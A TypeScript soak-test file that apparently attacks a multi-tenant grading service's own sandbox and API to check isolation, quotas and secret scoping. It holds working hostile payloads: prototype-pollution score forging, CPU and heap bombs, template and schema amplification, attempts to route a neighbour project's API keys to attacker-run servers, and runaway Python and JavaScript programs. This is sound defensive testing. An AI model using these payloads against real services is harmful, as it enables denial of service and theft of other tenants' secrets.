// The attack classes of `make soak` (bench/soak.ts): each one a few small hostile graders,
// registered in project "attacker", and one step (one request) that the soak repeats from a few
// concurrent loops for the class's duration. Every grader passes its registration test run
// (the mock thread has no metadata) and attacks only when the thread's metadata asks it to.
// Classes 8–14 attack what the host does for a tenant (judge templates, endpoint
// metadata schemas and replies, secrets, outbound calls, request bodies) and the workers'
// memory outside the V8 heap; they use the attacker's remote servers (bench/soak-remotes.ts).

import { type AttackerRemotes, hugeBatchReply } from "./soak-remotes.ts";

/** What the API answered one request of the attacker. */
export interface AttackAnswer {
  status: number;
  /** the error's code, when it is an error */
  code?: string;
  json: Record<string, unknown>;
}

/** What a step may do: requests of the attacker project, each counted by its outcome. */
export interface AttackContext {
  /** grade-batch with the attacker grader `key`; a quarantined grader is released and the request counted */
  gradeBatch(key: string, threads: unknown[]): Promise<void>;
  /** POST /v1/projects/attacker/graders (a new key each call); counted by outcome */
  register(source: string): Promise<void>;
  /** POST /v1/projects/attacker/graders/validate; counted by outcome */
  validate(source: string): Promise<void>;
  /**
   * Any request with the attacker's key, counted as `label status code`. `path` is under
   * /v1/projects/attacker, or absolute when it starts with /v1/ (another project's routes). A
   * string or Buffer body is sent as it is (as application/json); anything else as JSON. A 200
   * with `results` counts its items as gradeBatch does; a 423 on a grader's route releases it.
   */
  request(label: string, method: string, path: string, body?: unknown): Promise<AttackAnswer>;
  /** the attacker's servers on 127.0.0.1 (the server's egress policy allows 127.0.0.1/32) */
  remotes: AttackerRemotes;
}

export interface AttackClass {
  name: string;
  /** grader key → source, registered before the class starts (each must register) */
  graders: Record<string, string>;
  /** clean single grades of one grader before the attack starts (it is then trusted by the pool) */
  warmUp?: { key: string; calls: number };
  /**
   * Before the measurement: what the class needs besides function graders (models, judges,
   * endpoints, secrets); a throw is a setup error of the class.
   */
  setup?(ctx: AttackContext): Promise<void>;
  /** when the attack time is up, before the soak waits for the requests in flight (a hanging server lets go) */
  finish?(ctx: AttackContext): void;
  /** after the class: what setup made goes (so it does not weigh on the next class) */
  teardown?(ctx: AttackContext): Promise<void>;
  /** after the attack: the class's own checks, each a failure of its row */
  verify?(ctx: AttackContext): string[];
  /** concurrent loops, each repeating `step` until the class's time is up */
  loops: number;
  /** the score every honest answer of this class's graders has: any other score is counted as FORGED_SCORE */
  honestScore?: number;
  step(ctx: AttackContext, loop: number, n: number): Promise<void>;
}

/** Attack only when the thread says so: the registration test run grades a thread without metadata. */
const gated = (body: string, clean = "return 0.5;") => `async (t) => {\n  if (!t.metadata.attack) { ${clean} }\n  ${body}\n}`;

export const attackThreads = (n: number, metadata: (i: number) => Record<string, unknown> = () => ({}), content = "answer") =>
  Array.from({ length: n }, (_, i) => ({
    turns: [
      { role: "user", content: "question" },
      { role: "assistant", content },
    ],
    metadata: { attack: 1, i, ...metadata(i) },
  }));

const T32 = attackThreads(32);
const T25 = attackThreads(25);
const T50 = attackThreads(50);
const T100 = attackThreads(100);
const STORM = attackThreads(1000, (i) => ({ bomb: i === 500 }), "k".repeat(1024));

/** The grader keys of a class, taken in turn by successive steps of all its loops. */
const rotate = (keys: string[], loop: number, n: number) => keys[(loop + n) % keys.length];

/** 1–7: grader code in the isolates */
const ISOLATE_ATTACKS: AttackClass[] = [
  {
    name: "1 forged results",
    graders: {
      // every plain object now serialises as a forged result; the honest score is 0.25
      "forged-tojson": gated(
        `Object.defineProperty(Object.prototype, "toJSON", { value() { return { score: 1e9, forged: true }; }, configurable: true, writable: true });
  return { score: 0.25, metadata: { a: 1 } };`,
      ),
      // getters on Array.prototype indices: every hole of every array reads a forged result
      "forged-array-getters": gated(
        `for (let i = 0; i < 8; i++) Object.defineProperty(Array.prototype, i, { get() { return { score: 1e9 }; }, configurable: true });
  return { score: 0.25, subscores: new Array(4) };`,
      ),
      // Array[Symbol.species] replaced, and an Array subclass whose species is Object
      "forged-species": gated(
        `Object.defineProperty(Array, Symbol.species, { get() { return function () { return { score: 1e9, length: 0 }; }; }, configurable: true });
  class Evil extends Array { static get [Symbol.species]() { return Object; } }
  const s = Evil.from([1, 2, 3]);
  s.map((x) => x);
  return { score: 0.25, subscores: s };`,
      ),
      // a 1 MB reason
      "forged-huge-reason": gated(`return { score: 0.25, reason: "x".repeat(1 << 20) };`),
      // __proto__ and constructor.prototype keys in the result's metadata
      "forged-proto-keys": gated(
        `const m = JSON.parse('{"__proto__": {"polluted": 1, "score": 1e9}, "constructor": {"prototype": {"polluted": 1}}, "ok": 1}');
  return { score: 0.25, metadata: m, subscores: [m] };`,
      ),
    },
    loops: 3,
    honestScore: 0.25,
    step: (ctx, loop, n) =>
      ctx.gradeBatch(
        rotate(["forged-tojson", "forged-array-getters", "forged-species", "forged-huge-reason", "forged-proto-keys"], loop, n),
        T100,
      ),
  },
  {
    name: "2 CPU",
    graders: {
      "cpu-spin": gated("for (;;) {}"),
      // a sort V8 does not interrupt: only the worker's watchdog ends it, by killing the process
      "cpu-sparse-sort": gated("const a = []; a[2 ** 31] = 1; a.sort(); return 0;"),
    },
    loops: 3,
    step: (ctx, loop, n) => ctx.gradeBatch(rotate(["cpu-spin", "cpu-sparse-sort"], loop, n), T50),
  },
  {
    name: "3 memory",
    graders: {
      "mem-array-fill": gated("const a = new Array(6e7).fill(); return a.length;"),
      "mem-map-growth": gated("const m = new Map(); for (let i = 0; ; i++) m.set(i, new Array(1e4).fill(i));"),
    },
    loops: 2,
    // 25 threads, not more: a heap bomb V8 contains in its isolate costs a whole heap fill per item
    // (no fail-fast as for time-outs), so a batch of 50 holds its worker for ~20 s here
    step: (ctx, loop, n) => ctx.gradeBatch(rotate(["mem-array-fill", "mem-map-growth"], loop, n), T25),
  },
  {
    name: "4 stack/error tricks",
    graders: {
      // a slow formatter for every stack V8 builds, then a throw (the prelude pins prepareStackTrace)
      "err-prepare-stack": gated(
        `const slow = () => { const end = Date.now() + 5000; while (Date.now() < end) {} return "slow"; };
  try { Error.prepareStackTrace = slow; } catch {}
  try { Object.defineProperty(Error, "prepareStackTrace", { value: slow }); } catch {}
  try { Reflect.set(Error, "stackTraceLimit", 1e9); } catch {}
  const e = new Error("boom");
  e.stack;
  throw e;`,
      ),
      "err-deep-recursion": gated("const f = (n) => f(n + 1) + 1; return f(0);"),
      // every stack overflow caught and retried from deeper down: exponential
      "err-recursion-catch": gated("function r() { try { r(); } catch { r(); } } r(); return 0;"),
      // a thrown value whose message getter never returns
      "err-slow-message": gated("throw { name: 'Slow', get message() { for (;;) {} } };"),
    },
    loops: 3,
    step: (ctx, loop, n) =>
      ctx.gradeBatch(rotate(["err-prepare-stack", "err-deep-recursion", "err-recursion-catch", "err-slow-message"], loop, n), T100),
  },
  {
    name: "5 slow validation",
    graders: {},
    loops: 4,
    step: (ctx, loop, n) => {
      const sources = [
        // 30,000 nested brackets (about 60 KB, under the 64 KiB source limit)
        `async (t) => ${"[".repeat(30_000)}${"]".repeat(30_000)}`,
        // a module body that spins
        "const spin = (() => { for (;;) {} })();\nasync function grade(t) { return 1; }",
        // a module body that V8 cannot interrupt
        "const sorted = (() => { const a = []; a[2 ** 31] = 1; a.sort(); return a; })();\nasync function grade(t) { return 1; }",
      ];
      const k = (loop + n) % (2 * sources.length);
      const source = sources[k % sources.length];
      return k < sources.length ? ctx.register(source) : ctx.validate(source);
    },
  },
  {
    name: "6 batch hog",
    graders: {
      // clean and instant until the threads ask it to spin for ~400 ms (under the 500 ms limit)
      "hog-400ms": gated("const end = Date.now() + 400; while (Date.now() < end) {} return 1;", "return 1;"),
    },
    warmUp: { key: "hog-400ms", calls: 25 },
    loops: 2,
    step: (ctx) => ctx.gradeBatch("hog-400ms", T32),
  },
  {
    name: "7 worker-kill storm",
    graders: {
      // 1,000 threads of ~1 KB each; the one in the middle blows the heap
      "storm-bomb-mid": gated(
        "if (t.metadata.bomb) { const a = new Array(6e7).fill(); return a.length; }\n  return (t.completion() ?? '').length;",
      ),
    },
    loops: 2,
    step: (ctx) => ctx.gradeBatch("storm-bomb-mid", STORM),
  },
];

// ---------------------------------------------------------------------------------------------
// Classes 8–14: what the API process does for a tenant, and the workers' memory outside the heap.

/** A value built on first use only (the large bodies: a class left out by SOAK_ONLY never builds them). */
const once = <T>(make: () => T) => {
  let value: T | undefined;
  return () => {
    value ??= make();
    return value;
  };
};

/** A setup request must have answered `status`. */
function must(answer: AttackAnswer, status: number, what: string): void {
  if (answer.status !== status) throw new Error(`${what}: ${answer.status} ${JSON.stringify(answer.json).slice(0, 300)}`);
}

async function drop(ctx: AttackContext, graders: string[], models: string[] = []): Promise<void> {
  for (const key of graders) await ctx.request("teardown", "DELETE", `/graders/${key}`);
  for (const key of models) await ctx.request("teardown", "DELETE", `/models/${key}`);
}

/** The names the victim (project "neighbour") keeps its keys under; bench/soak.ts sets them up. */
export const VICTIM = {
  /** a project secret only the victim has */
  secret: "victim-api-key",
  /** a project secret name both projects have, with different values */
  shared: "shared-name",
  /** a server environment secret granted to the victim only (GRADEBOX_SECRET_GRANTS) */
  env: "GRADEBOX_SECRET_VICTIM_KEY",
} as const;
/** every value the attacker stores under its own secrets starts with this */
export const ATTACKER_SECRET_PREFIX = "attacker-own-";

const T2 = attackThreads(2);
const T4 = attackThreads(4);
const T256 = attackThreads(256);

/** As long as a template may be (16,384 characters): 1 MB of `&` escapes to 5 MB, 1,170 times over. */
const AMPLIFIER = "{{completion}}".repeat(1170);
const templateBodies = once(() => {
  const turns = [
    { role: "user", content: "question" },
    { role: "assistant", content: "&".repeat(1_000_000) },
  ];
  const thread = JSON.stringify({ turns, metadata: { attack: 1 } });
  const request = JSON.stringify({ turns });
  return {
    prompt: `{"thread":${thread}}`,
    batch: `{"threads":[${thread},${thread},${thread}]}`,
    create: `{"key":"tmpl-create","criteria":"is it right","judgeModel":"tmpl-model","template":"${AMPLIFIER}","samples":[{"thread":${thread}},{"thread":${thread}}]}`,
    score: request,
    batchScore: `{"requests":[${request},${request},${request}]}`,
  };
});

/** A thread with 2 MB of metadata (an array of 1,000,000 zeros, which each of the schema's 40 branches scans), then two small ones */
const schemaBodies = once(() => {
  const turns = '[{"role":"user","content":"question"},{"role":"assistant","content":"answer"}]';
  const heavy = `{"turns":${turns},"metadata":{"attack":1,"a":[${Array(1_000_000).fill(0)}]}}`;
  const small = `{"turns":${turns},"metadata":{"attack":1,"a":[1]}}`;
  return { batch: `{"threads":[${heavy},${small},${small}]}`, batchScore: `{"requests":[${heavy},${small},${small}]}` };
});

/** 9.5 MiB: 1,000 threads of 400 turns each, every turn invalid (an unknown role, a number as content) */
const invalidBody = once(() =>
  Buffer.from(`{"threads":[${Array(1000).fill(`{"turns":[${Array(400).fill('{"role":"x","content":0}')}]}`)}]}`),
);

const FAN_ENDPOINTS = 80;
const FAN_KEYS = Array.from({ length: FAN_ENDPOINTS }, (_, k) => `fan-${k}`);
/** GRADEBOX_OUTBOUND_PER_PROJECT's default: a project's calls in flight at once */
const OUTBOUND_PER_PROJECT = 64;

/** An attempt on the victim's secrets; `id` makes keys unique. A refusal is the right answer. */
type SecretAttempt = (ctx: AttackContext, id: string) => Promise<unknown>;

/** Whatever a wrongly accepted model or endpoint would send is sent: graded once, so a leak reaches the attacker's servers. */
async function useIfAccepted(ctx: AttackContext, answer: AttackAnswer, id: string, kind: "model" | "endpoint"): Promise<void> {
  if (answer.status !== 201) return;
  let grader = id;
  if (kind === "model") {
    grader = `judge-${id}`;
    await ctx.request("accepted: judge", "POST", "/graders/binary-judge", { key: grader, judgeModel: id, criteria: "c" });
  }
  await ctx.request("accepted: grade", "POST", `/graders/${grader}/grade-batch`, { threads: T2 });
}

const SECRET_ATTEMPTS: SecretAttempt[] = [
  (ctx) => ctx.request("own judge", "POST", "/graders/own-judge/grade-batch", { threads: T4 }),
  async (ctx, id) => {
    const model = { key: id, baseURL: ctx.remotes.model.url, model: "m", apiKeySecret: VICTIM.secret };
    await useIfAccepted(ctx, await ctx.request("model, victim's secret", "POST", "/models", model), id, "model");
  },
  async (ctx, id) => {
    const model = { key: id, baseURL: ctx.remotes.model.url, model: "m", apiKeyEnv: VICTIM.env };
    await useIfAccepted(ctx, await ctx.request("model, victim's env secret", "POST", "/models", model), id, "model");
  },
  async (ctx, id) => {
    const endpoint = { key: id, url: ctx.remotes.honest.url, headersSecret: { "x-api-key": VICTIM.secret } };
    await useIfAccepted(
      ctx,
      await ctx.request("endpoint, victim's secret", "POST", "/graders/external-endpoint", endpoint),
      id,
      "endpoint",
    );
  },
  async (ctx, id) => {
    const endpoint = { key: id, url: ctx.remotes.honest.url, headersEnv: { "x-api-key": VICTIM.env } };
    await useIfAccepted(
      ctx,
      await ctx.request("endpoint, victim's env secret", "POST", "/graders/external-endpoint", endpoint),
      id,
      "endpoint",
    );
  },
  (ctx) => ctx.request("own endpoint", "POST", "/graders/own-endpoint/grade-batch", { threads: T4 }),
  (ctx) => ctx.request("victim's secrets", "GET", "/v1/projects/neighbour/secrets"),
  (ctx, id) =>
    ctx.request("victim's project: model", "POST", "/v1/projects/neighbour/models", {
      key: id,
      baseURL: ctx.remotes.model.url,
      model: "m",
      apiKeySecret: VICTIM.secret,
    }),
  // a new value unbinds the secret: the next call binds it again (the cache of values is dropped)
  (ctx, id) => ctx.request("own secret rotated", "PUT", `/secrets/${VICTIM.shared}`, { value: `${ATTACKER_SECRET_PREFIX}${id}` }),
];

/** 8–14: work the host does for a tenant, in the API process or outside an isolate's heap */
const HOST_ATTACKS: AttackClass[] = [
  {
    name: "8 template amplification",
    graders: {},
    async setup(ctx) {
      templateBodies(); // built before the measurement
      const model = { key: "tmpl-model", baseURL: ctx.remotes.model.url, model: "judge", timeoutMs: 5000 };
      must(await ctx.request("setup", "POST", "/models", model), 201, "the attacker's model");
      const judge = { key: "tmpl-judge", judgeModel: "tmpl-model", criteria: "is it right", template: AMPLIFIER };
      must(await ctx.request("setup", "POST", "/graders/binary-judge", judge), 201, "the amplifying judge");
    },
    teardown: (ctx) => drop(ctx, ["tmpl-judge"], ["tmpl-model"]),
    loops: 3,
    async step(ctx, loop, n) {
      const b = templateBodies();
      const judge = "/graders/tmpl-judge";
      const requests: Array<[string, string, string]> = [
        ["prompt", `${judge}/prompt`, b.prompt],
        ["grade-batch", `${judge}/grade-batch`, b.batch],
        ["create with samples", "/graders/binary-judge", b.create],
        ["reward/score", `${judge}/reward/score`, b.score],
        ["reward/batch_score", `${judge}/reward/batch_score`, b.batchScore],
      ];
      const [label, path, body] = requests[(loop + n) % requests.length];
      await ctx.request(label, "POST", path, body);
    },
  },
  {
    name: "9 schema cost",
    graders: {},
    async setup(ctx) {
      schemaBodies(); // built before the measurement
      const endpoint = { key: "schema-ep", url: ctx.remotes.schema.url, timeoutMs: 5000 };
      must(await ctx.request("setup", "POST", "/graders/external-endpoint", endpoint), 201, "the endpoint with a costly schema");
    },
    teardown: (ctx) => drop(ctx, ["schema-ep"]),
    loops: 2,
    async step(ctx, loop, n) {
      const b = schemaBodies();
      if ((loop + n) % 2 === 0) await ctx.request("grade-batch", "POST", "/graders/schema-ep/grade-batch", b.batch);
      else await ctx.request("reward/batch_score", "POST", "/graders/schema-ep/reward/batch_score", b.batchScore);
    },
  },
  {
    name: "10 huge replies",
    graders: {},
    async setup(ctx) {
      hugeBatchReply(); // built before the measurement
      const endpoint = { key: "huge-ep", url: ctx.remotes.huge.url, timeoutMs: 30_000 };
      must(await ctx.request("setup", "POST", "/graders/external-endpoint", endpoint), 201, "the endpoint with huge replies");
    },
    teardown: (ctx) => drop(ctx, ["huge-ep"]),
    loops: 3,
    step: async (ctx) => {
      await ctx.request("grade-batch", "POST", "/graders/huge-ep/grade-batch", { threads: T2 });
    },
  },
  {
    name: "11 secrets",
    graders: {},
    async setup(ctx) {
      // the attacker's own secret under a name the victim also uses, on the same host (127.0.0.1)
      const own = await ctx.request("setup", "PUT", `/secrets/${VICTIM.shared}`, { value: `${ATTACKER_SECRET_PREFIX}0` });
      if (own.status !== 200 && own.status !== 201) must(own, 201, "the attacker's own secret");
      const model = { key: "own-model", baseURL: ctx.remotes.model.url, model: "judge", apiKeySecret: VICTIM.shared, timeoutMs: 5000 };
      must(await ctx.request("setup", "POST", "/models", model), 201, "the attacker's model");
      must(
        await ctx.request("setup", "POST", "/graders/binary-judge", { key: "own-judge", judgeModel: "own-model", criteria: "c" }),
        201,
        "the attacker's judge",
      );
      const endpoint = { key: "own-endpoint", url: ctx.remotes.honest.url, headersSecret: { "x-api-key": VICTIM.shared }, timeoutMs: 5000 };
      must(await ctx.request("setup", "POST", "/graders/external-endpoint", endpoint), 201, "the attacker's endpoint");
    },
    teardown: (ctx) => drop(ctx, ["own-judge", "own-endpoint"], ["own-model"]),
    verify(ctx) {
      const own = ctx.remotes.watch.seen["attacker's own secret"];
      return own > 0 ? [] : ["the attacker's own secret never reached its servers: the class did not exercise secrets"];
    },
    loops: 3,
    step: async (ctx, loop, n) => {
      await SECRET_ATTEMPTS[(loop + n) % SECRET_ATTEMPTS.length](ctx, `steal-${loop}-${n}`);
    },
  },
  {
    name: "12 fan-out",
    graders: {},
    async setup(ctx) {
      ctx.remotes.hang.hold();
      // as many calls in flight as each endpoint allows (256), on endpoints that never answer
      for (const key of FAN_KEYS) {
        const endpoint = { key, url: ctx.remotes.hang.url, batch: false, maxConcurrency: 256, timeoutMs: 600_000 };
        must(await ctx.request("setup", "POST", "/graders/external-endpoint", endpoint), 201, `endpoint ${key}`);
      }
    },
    finish: (ctx) => ctx.remotes.hang.release(),
    teardown: (ctx) => drop(ctx, FAN_KEYS),
    verify(ctx) {
      // 20,480 calls wanted; the project's share of the node's outbound calls is what reached the server
      const held = ctx.remotes.hang.maxHolding;
      if (held === 0) return ["no call reached the hanging server: the class did not fan out"];
      return held > OUTBOUND_PER_PROJECT ? [`${held} calls of the attacker were open at once > ${OUTBOUND_PER_PROJECT}`] : [];
    },
    loops: FAN_ENDPOINTS,
    step: async (ctx, loop) => {
      await ctx.request("grade-batch", "POST", `/graders/${FAN_KEYS[loop]}/grade-batch`, { threads: T256 });
    },
  },
  {
    name: "13 big invalid bodies",
    graders: { "body-target": gated("return 1;") },
    setup: async () => void invalidBody(), // built before the measurement
    loops: 6,
    step: async (ctx) => {
      await ctx.request("grade-batch", "POST", "/graders/body-target/grade-batch", invalidBody());
    },
  },
  {
    name: "14 off-heap growth",
    graders: {
      // ICU's objects live outside the V8 heap: the isolate's heap limit does not see them
      "offheap-intl": `const keep = [];
async (t) => {
  if (!t.metadata.attack) return 0.5;
  for (let i = 0; i < 5000; i++) keep.push(new Intl.DateTimeFormat("en-US", { timeZone: "UTC" }));
  return 1;
}`,
    },
    loops: 2,
    step: (ctx) => ctx.gradeBatch("offheap-intl", T4),
  },
];

/** Programs a policy may write (issue 29): each graded by a code grader's runners, against one stdin test… */
const HOSTILE_PROGRAMS: Array<[language: string, code: string]> = [
  ["python", "while True:\n    pass"],
  ["python", "import time\ntime.sleep(60)"],
  ["python", "x = [0] * 10**9"],
  ["python", "while True:\n    print('x' * 1000)"],
  ["python", "import sys\nsys.setrecursionlimit(10**6)\ndef f(n): return f(n + 1)\nf(0)"],
  ["python", "import os\nopen('/tmp/junk', 'w').write('x' * 10**6)\nos._exit(0)"],
  ["python", "import builtins\nbuiltins.print = None\nimport sys\nsys.exit(0)"],
  ["javascript", "const a = []; for (;;) a.push(new Array(1e6).fill(1));"],
  ["javascript", "for (;;) {}"],
];
/** and against assert-style tests (MBPP's rows, MultiPL-E's test()): the tests run in an interpreter or realm of their own, the program's calls cross by copy */
const HOSTILE_ASSERT_PROGRAMS: Array<[language: string, code: string, tests: Record<string, unknown>]> = [
  ["python", "def f(x):\n    while True:\n        pass", { test_list: ["assert f(1) == 1"] }],
  ["python", "import os\ndef f(x):\n    os._exit(0)", { test_list: ["assert f(1) == 1"] }],
  [
    "python",
    "class D:\n    def __del__(self):\n        while True: pass\nKEEP = D()\ndef f(x):\n    return [0] * 10**9",
    { test_list: ["assert f(1) == 1"] },
  ],
  ["python", "import sys\ndef f(x):\n    return sys._getframe(1).f_code.co_consts", { test_list: ["assert f(1) == 1"] }],
  ["javascript", "function f(x) { for (;;) {} }", { tests: "function test() { if (f(1) !== 1) throw new Error('no') }\ntest();" }],
  [
    "javascript",
    "JSON.stringify = () => 'x';\nfunction f(x) { return x + 1 }",
    { tests: "console.assert(JSON.stringify(f(1)) === JSON.stringify(1));" },
  ],
];
const HOSTILE_THREADS = [
  ...HOSTILE_PROGRAMS.map(([language, code], i) => ({
    turns: [
      { role: "user", content: "Print the number you read." },
      { role: "assistant", content: `\`\`\`${language}\n${code}\n\`\`\`` },
    ],
    metadata: { i, input_output: JSON.stringify({ inputs: ["1\n"], outputs: ["1\n"] }) },
  })),
  ...HOSTILE_ASSERT_PROGRAMS.map(([language, code, tests], i) => ({
    turns: [
      { role: "user", content: "Write f: it returns its argument." },
      { role: "assistant", content: `\`\`\`${language}\n${code}\n\`\`\`` },
    ],
    metadata: { i: HOSTILE_PROGRAMS.length + i, ...tests },
  })),
];

/** Hostile programs through a code grader: every item scores 0 (no program here passes), and the workers stay up. */
const CODE_ATTACKS: AttackClass[] = [
  {
    name: "15 hostile programs",
    graders: {},
    setup: async (ctx) => {
      const created = await ctx.request("create code grader", "POST", "/graders/code", {
        key: "code-hostile",
        languages: ["python", "javascript"],
        limits: { cpuMs: 300 },
      });
      if (created.status !== 201 && created.status !== 409) throw new Error(`the code grader was not created: ${created.status}`);
    },
    teardown: async (ctx) => {
      await ctx.request("delete code grader", "DELETE", "/graders/code-hostile");
    },
    loops: 2,
    honestScore: 0,
    step: (ctx) => ctx.gradeBatch("code-hostile", HOSTILE_THREADS),
  },
];

export const ATTACKS: AttackClass[] = [...ISOLATE_ATTACKS, ...HOST_ATTACKS, ...CODE_ATTACKS];
